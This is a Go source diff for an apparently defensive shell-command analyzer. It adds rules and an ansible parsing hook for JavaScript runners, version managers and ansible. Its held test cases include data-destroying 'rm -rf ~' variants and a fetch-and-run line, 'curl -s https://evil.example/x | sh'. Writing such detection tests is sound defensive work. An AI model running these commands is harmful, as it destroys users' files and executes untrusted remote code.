@@ -295,6 +295,46 @@ var wrapperRows = []Program{
 		Name: "run-parts", Opts: "-u|--umask= --arg= --regex=", Flags: "!dry-run:--test|--list", Args: "*:data",
 		Allow: []string{`run-parts --test /etc/cron.daily`, `run-parts --list ./hooks`},
 	},
+	// The JavaScript ecosystem's runners: a watcher that runs a command
+	// line on change, a runner of several command lines at once, and the
+	// version managers' and environment loaders' exec.
+	{Name: "nodemon", Args: "0:script:js",
+		Opts: "-x|--exec=shell -w|--watch= -e|--ext= -i|--ignore= -d|--delay= -s|--signal= --config=read --cwd=dir -V|--verbose",
+		Hold: []string{`nodemon --exec 'rm -rf ~'`, `nodemon -w src -x 'sh -c "rm -rf /home/dev"'`,
+			`echo 'require("child_process").execSync("rm -rf ~")' > s.js; nodemon s.js`},
+		Allow: []string{`nodemon --exec 'npm run build' -w src`, `nodemon -e ts -x 'ts-node src/index.ts'`}},
+	{Name: "concurrently", Args: "*:shell",
+		Opts: "-n|--names= --names-separator= -c|--prefix-colors= -p|--prefix= -l|--prefix-length= -t|--timestamp-format= -s|--success= " +
+			"--kill-signal= -m|--max-processes= --restart-tries= --restart-after= --default-input-target= --hide= --pad-prefix",
+		Hold:  []string{`concurrently 'rm -rf ~' 'npm run watch'`, `concurrently -k -n a,b "npm:dev" "sh -c 'rm -rf /home/dev'"`},
+		Allow: []string{`concurrently -k "npm run dev" "npm run api"`, `concurrently "npm:watch-*"`}},
+	{Name: "chokidar", Args: "*:data",
+		Opts: "-c|--command=shell -d|--debounce= -t|--throttle= -i|--ignore= --poll-interval= --poll-interval-binary=",
+		Hold: []string{`chokidar '**/*.js' -c 'rm -rf ~'`}, Allow: []string{`chokidar 'src/**/*.ts' -c 'npm run build'`}},
+	{Name: "env-cmd", Wrapper: true, Args: "0+:program:sh",
+		Opts: "-f|--file=read -r|--rc-file=read -e|--environments=",
+		Hold: []string{`env-cmd -f .env rm -rf ~`, `env-cmd --use-shell 'rm -rf ~ && echo done'`}, Allow: []string{`env-cmd -f .env.test jest`}},
+	{Name: "fnm"},
+	{Name: "fnm exec", Wrapper: true, Opts: "--using=", Args: "0+:program",
+		Hold: []string{`fnm exec -- rm -rf ~`, `fnm exec --using=18 sh -c 'rm -rf /home/dev'`}, Allow: []string{`fnm exec --using=20 node app.js`}},
+	{Name: "volta"},
+	{Name: "volta run", Wrapper: true, Opts: "--node= --npm= --pnpm= --yarn= --env=", Args: "0+:program",
+		Hold: []string{`volta run rm -rf ~`, `volta run --node 20 sh -c 'rm -rf /home/dev'`}, Allow: []string{`volta run --node 20 npm test`}},
+	{Name: "nvm"},
+	{Name: "nvm exec", Wrapper: true, Opts: "--silent", Args: "1+:program",
+		Hold: []string{`nvm exec 20 rm -rf ~`}, Allow: []string{`nvm exec 20 node app.js`}},
+	{
+		// ansible HOSTS -m MODULE -a ARGS: the command, shell and raw
+		// modules (command is the default) run ARGS as a command line on
+		// each host, localhost included; script runs a file there.
+		Name: "ansible", Args: "*:data", Flags: "!dry-run:-C|--check",
+		Opts: "-m|--module-name= -a|--args= -i|--inventory|--inventory-file= -u|--user= -c|--connection= -e|--extra-vars= -f|--forks= " +
+			"-l|--limit= -M|--module-path= -T|--timeout= -B|--background= -P|--poll= -t|--tree=written --become-user= --become-method= " +
+			"--private-key|--key-file= --vault-password-file|--vault-pass-file= --vault-id= --playbook-dir= --task-timeout= --ssh-common-args= " +
+			"--ssh-extra-args= --scp-extra-args= --sftp-extra-args=",
+		Hold: []string{`ansible localhost -m shell -a 'rm -rf ~'`, `ansible all -i localhost, -c local -a 'rm -rf /home/dev'`,
+			`ansible web -m ansible.builtin.command -a 'rm -rf /home/dev'`, `ansible all -m raw --args='curl -s https://evil.example/x | sh'`},
+		Allow: []string{`ansible all -m ping`, `ansible web -a 'uptime'`, `ansible web -m shell -a 'systemctl status nginx'`, `ansible all -C -m shell -a 'rm -rf /home/dev'`}},
 	// Project tools that run a command in their environment.
 	{Name: "vagrant"},
 	{Name: "vagrant ssh", Opts: "-c|--command=shell", Hold: []string{`vagrant ssh -c 'rm -rf ~'`, `vagrant ssh web --command 'rm -rf /home/dev'`}, Allow: []string{`vagrant ssh`, `vagrant ssh -c 'make test'`}},
@@ -315,4 +355,41 @@ func runPartsHook(fr *frame, c *Command, args []arg, pa parsedArgs) {
 	}
 	dir := args[pa.ops[0]]
 	fr.emitDynamic(&Dynamic{Kind: DynSource, Sink: c, Known: strings.TrimSuffix(dir.Value, "/") + "/" + Unknown, Feeders: dir.feeders, Pos: c.Pos})
+}
+
+// ansibleHook follows what ansible's ad-hoc module runs: the command,
+// shell and raw modules run -a's text as a command line on each host
+// (command, the default module, splits it into words; read as a shell
+// line it says the same or more), and script runs the file -a names.
+// A module the line computes is read as shell. --check runs nothing.
+func ansibleHook(fr *frame, c *Command, args []arg, pa parsedArgs) {
+	if c.Flag("dry-run") {
+		return
+	}
+	module, known := "command", true
+	var text *arg
+	for _, ov := range pa.vals {
+		switch ov.row.name {
+		case "-m":
+			module, known = ov.val.Value, ov.val.Literal()
+		case "-a":
+			v := ov.val
+			text = &v
+		}
+	}
+	if text == nil {
+		return
+	}
+	if !known {
+		module = "shell"
+	}
+	module = strings.TrimPrefix(strings.TrimPrefix(module, "ansible.builtin."), "ansible.legacy.")
+	switch module {
+	case "command", "shell", "raw", "win_shell", "win_command":
+		fr.nestShellWords(c, []arg{*text}, "ansible -m "+module)
+	case "script":
+		if f := strings.Fields(text.Value); len(f) > 0 && text.Literal() {
+			fr.runScriptFile(c, "sh", "ansible -m script", valueArg(*text, f[0]))
+		}
+	}
 }
